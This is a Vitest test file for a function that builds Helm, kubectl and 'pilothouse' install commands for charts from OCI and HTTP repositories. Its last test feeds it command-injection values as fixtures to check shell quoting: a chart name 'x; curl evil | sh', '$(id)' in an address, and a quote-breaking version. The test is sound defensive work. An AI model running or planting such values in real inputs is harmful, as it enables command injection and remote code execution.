import { describe, expect, it } from 'vitest'

import { installWays } from './install'

const oci = {
  repository: { namespace: 'default', name: 'samples', url: 'oci://registry.example/charts', kind: 'HelmRepository', insecure: false },
  chart: 'team/webapp',
  version: '1.2.0+build.7',
  addresses: ['oci://registry.example/charts/team/webapp:1.2.0_build.7'],
} as const

const lines = (ways: ReturnType<typeof installWays>) => Object.fromEntries(ways.map(({ title, text }) => [title, text]))

describe('how a chart is installed', () => {
  it('from a registry', () => {
    const ways = lines(installWays(oci))
    expect(ways['With Helm']).toBe('helm install webapp oci://registry.example/charts/team/webapp --version 1.2.0+build.7 --namespace default')
    expect(ways['With Pilothouse']).toBe(
      'pilothouse release add webapp --repo samples --chart team/webapp --version 1.2.0+build.7 --namespace default',
    )
    expect(ways['With kubectl']).toContain('      chart: team/webapp\n      version: 1.2.0+build.7\n')
  })

  it('from a registry without TLS', () => {
    const ways = lines(installWays({ ...oci, repository: { ...oci.repository, insecure: true } }))
    expect(ways['With Helm']).toMatch(/ --plain-http$/)
  })

  it('from an HTTP repository', () => {
    const repository = { ...oci.repository, url: 'https://charts.example', kind: 'HelmRepository' } as const
    expect(lines(installWays({ ...oci, repository, chart: 'webapp', addresses: ['https://charts.example/webapp.tgz'] }))['With Helm']).toBe(
      'helm install webapp webapp --repo https://charts.example --version 1.2.0+build.7 --namespace default',
    )
  })

  it('from an OCI repository, which is one chart', () => {
    const repository = { ...oci.repository, kind: 'OCIRepository', url: 'oci://registry.example/charts/webapp' } as const
    const ways = lines(installWays({ ...oci, repository, chart: 'webapp', addresses: [] }))
    expect(ways['With Helm']).toMatch(/^helm install webapp oci:\/\/registry.example\/charts\/webapp --version/)
    expect(ways['With kubectl']).toContain('  chartRef:\n    kind: OCIRepository\n    name: samples\n')
    expect(ways['With Pilothouse']).toBeUndefined()
  })

  it('never lets a name become a command', () => {
    const ways = lines(installWays({ ...oci, chart: 'x; curl evil | sh', addresses: ['oci://h/$(id)/x:1'], version: "1'; id" }))
    expect(ways['With Helm']).toBe(
      String.raw`helm install my-release 'oci://h/$(id)/x' --version '1'\''; id' --namespace default`,
    )
    expect(ways['With kubectl']).toContain('chart: x; curl evil | sh\n')
  })
})
